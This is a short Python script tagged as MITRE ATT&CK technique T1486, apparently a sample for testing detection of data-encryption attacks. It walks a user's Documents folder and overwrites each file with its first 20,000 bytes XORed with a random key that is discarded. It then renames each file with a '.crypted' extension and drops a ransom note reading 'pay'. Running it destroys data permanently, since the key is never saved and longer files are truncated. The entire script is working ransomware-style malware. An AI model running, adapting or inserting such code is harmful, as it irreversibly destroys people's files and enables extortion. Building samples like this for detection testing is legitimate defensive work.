#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1486 Data Encrypted for Impact: done in another way than in tests/data/techniques, or there not at all.
import os
for d, _, fs in os.walk('/home/jonas/Documents'):
    for f in fs:
        p = os.path.join(d, f)
        data = open(p, 'rb').read()
        key = os.urandom(64)
        out = bytes(b ^ key[i % 64] ^ (i * 7 & 255) for i, b in enumerate(data[:20000]))
        open(p, 'wb').write(out)
        os.rename(p, p + '.crypted')
open('/home/jonas/HOW_TO_DECRYPT.txt','w').write('pay')
